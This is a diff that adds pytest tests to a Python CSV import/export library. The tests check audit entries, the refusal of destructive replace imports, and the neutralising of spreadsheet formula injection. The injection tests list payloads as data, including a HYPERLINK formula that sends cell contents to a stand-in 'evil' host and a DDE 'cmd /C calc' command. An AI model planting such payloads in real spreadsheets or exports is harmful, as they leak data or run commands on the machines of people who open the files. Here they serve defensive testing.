@@ -374,3 +374,133 @@ def test_header_errors_are_short_and_linear(connect_db, tmp_path):
     path = _zip(tmp_path / "c.zip", {"imp_press.csv": [["c%d" % i for i in range(30)]]})
     with pytest.raises(ValidationError, match="more than the 4 columns of table imp_press"):
         peestore.import_csv(path)
+
+
+class Log(peestore.BaseAuditedModel):
+    """A log of its own: no audit entry per line."""
+    operator = peewee.CharField(max_length=20)
+    message = peewee.TextField()
+
+    class Meta:
+        table_name = "imp_log"
+        component = "logs"
+        audited = False
+
+
+@pytest.mark.parametrize("mode", ["append", "replace"])
+def test_an_unaudited_model_still_gets_its_import_entry(connect_db, tmp_path, mode):
+    """Meta.audited = False spares the per-row entries, not the import's: replacing a log
+    wholesale leaves one entry by the importer, and after_commit listeners hear it."""
+    connect_db(MODELS + [Log])
+    Log.create(operator="demo", message="the real line")
+    assert AuditLog.select().count() == 0
+    heard = []
+    peestore.after_commit(Log)(lambda changes: heard.extend(
+        (c.component, c.operation, c.record_id) for c in changes))
+    path = _zip(tmp_path / "z.zip", {"logs.csv": [
+        ["id", "operator", "message"], ["7", "demo", "all checks passed"]]})
+    with peestore.actor("mallory"):
+        assert peestore.import_csv(path, mode=mode) == {"imp_log": 1}
+    entries = [(e.component, e.operation, e.record_id, e.actor, e.after)
+               for e in AuditLog.select()]
+    assert entries == [("logs", "import", "*", "mallory",
+                        {"table": "imp_log", "rows": 1, "mode": mode})]
+    assert heard == [("logs", "import", "*")]
+    assert Log.select().count() == (1 if mode == "replace" else 2)
+
+
+def test_replace_refuses_when_a_table_outside_the_zip_refers_to_the_rows(connect_db,
+                                                                         tmp_path):
+    """The demo's recipes (ON DELETE CASCADE) and log lines (SET NULL) refer to the machine:
+    replacing machine.csv alone would wipe the recipes and clear the log's keys with no
+    audit entry. It is refused, naming the tables, and nothing changes."""
+    from peestore.demo import MODELS as DEMO, Machine, OperatorLog, Recipe, seed
+
+    connect_db(DEMO)
+    seed()
+    path = peestore.export_csv(tmp_path / "machines.zip", tables=["machine"])
+    state = [(Recipe.select().with_deleted().count(),
+              OperatorLog.select().where(OperatorLog.machine.is_null(False)).count(),
+              AuditLog.select().count())]
+    with peestore.actor("mallory"), pytest.raises(ValidationError) as info:
+        peestore.import_csv(path, mode="replace")
+    message = str(info.value)
+    assert "replace would delete rows that tables outside the zip refer to" in message
+    assert "recipe (recipe.machine_id -> machine.id)" in message
+    assert "operatorlog (operatorlog.machine_id -> machine.id)" in message
+    assert info.value.errors == {"recipe": "refers to rows of machine",
+                                 "operatorlog": "refers to rows of machine"}
+    state.append((Recipe.select().with_deleted().count(),
+                  OperatorLog.select().where(OperatorLog.machine.is_null(False)).count(),
+                  AuditLog.select().count()))
+    assert state[1] == state[0] == (2, 1, 3)
+    assert Machine.select().count() == 1
+
+    # With the recipes in the zip, only the log is left to refer to the machine.
+    path = peestore.export_csv(tmp_path / "two.zip", tables=["machine", "recipe"])
+    with pytest.raises(ValidationError) as info:
+        peestore.import_csv(path, mode="replace")
+    assert list(info.value.errors) == ["operatorlog"]
+    # A NULL key refers to nothing: once the log line has none, replace goes through.
+    OperatorLog.update(machine=None).execute()
+    with peestore.actor("maintenance"):
+        assert peestore.import_csv(path, mode="replace") == {"machine": 1, "recipe": 2}
+    assert Recipe.select().with_deleted().count() == 2
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil/?"&A2,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                 "-x", "+y", "'quoted", "plain"]
+
+
+def _read_csv(path, name):
+    with zipfile.ZipFile(str(path)) as zf:
+        return list(csv.reader(io.TextIOWrapper(zf.open(name), encoding="utf-8",
+                                                newline="")))
+
+
+def test_header_cells_are_neutralised_and_imported_back(connect_db, tmp_path):
+    """A table whose column names a spreadsheet would run as formulas: the header cells
+    get a ' in front, and import takes it off again (the header matches the table)."""
+    db = connect_db(MODELS)
+
+    class Notes(peewee.Model):
+        class Meta:
+            database = db
+            table_name = "imp_notes"
+    for i, name in enumerate(FORMULA_NAMES):
+        Notes._meta.add_field("f%d" % i, peewee.TextField(column_name=name, null=True))
+    db.create_tables([Notes])
+    values = {"f%d" % i: "=1+%d" % i for i in range(len(FORMULA_NAMES))}
+    values["f5"] = "plain text"
+    Notes.create(**values)
+    path = peestore.export_csv(tmp_path / "notes.zip", tables=["imp_notes"])
+    header, row = _read_csv(path, "imp_notes.csv")
+    assert header == ["id"] + ["'" + name for name in FORMULA_NAMES[:5]] + ["plain"]
+    assert row[1:] == ["'=1+0", "'=1+1", "'=1+2", "'=1+3", "'=1+4", "plain text"]
+    Notes.delete().execute()
+    with peestore.actor("importer"):
+        assert peestore.import_csv(path) == {"imp_notes": 1}
+    got = Notes.select().dicts().get()
+    assert {k: v for k, v in got.items() if k != "id"} == values
+
+
+def test_text_in_a_column_of_another_type_is_neutralised(sqlite_db, tmp_path):
+    """SQLite keeps text given to a DATETIME, REAL or INTEGER column as text: those cells
+    are neutralised too; numbers and dates written by export never are."""
+    db = sqlite_db(MODELS)
+    Press.create(id=1, name="p")
+    Kinds.create(id=1, count=-5, ratio=-2.5, at=datetime.datetime(2024, 1, 2))
+    Kinds.create(id=2)
+    db.execute_sql("UPDATE imp_kinds SET at = ?, ratio = ?, count = ?, amount = ? WHERE id = 2",
+                   ("=cmd|' /C calc'!A0", "+1+2", "-1+cmd", "@SUM(1)"))
+    path = peestore.export_csv(tmp_path / "k.zip", tables=["imp_kinds"])
+    header, first, second = _read_csv(path, "imp_kinds.csv")
+    first, second = dict(zip(header, first)), dict(zip(header, second))
+    assert (first["count"], first["ratio"], first["at"]) == ("-5", "-2.5",
+                                                             "2024-01-02T00:00:00")
+    assert (second["at"], second["ratio"], second["count"], second["amount"]) == (
+        "'=cmd|' /C calc'!A0", "'+1+2", "'-1+cmd", "'@SUM(1)")
+    # What export wrote for such a value is read back as that value (then checked).
+    db.execute_sql("DELETE FROM imp_kinds")
+    with pytest.raises(ValidationError, match="imp_kinds.csv line 3, column count"):
+        peestore.import_csv(path)
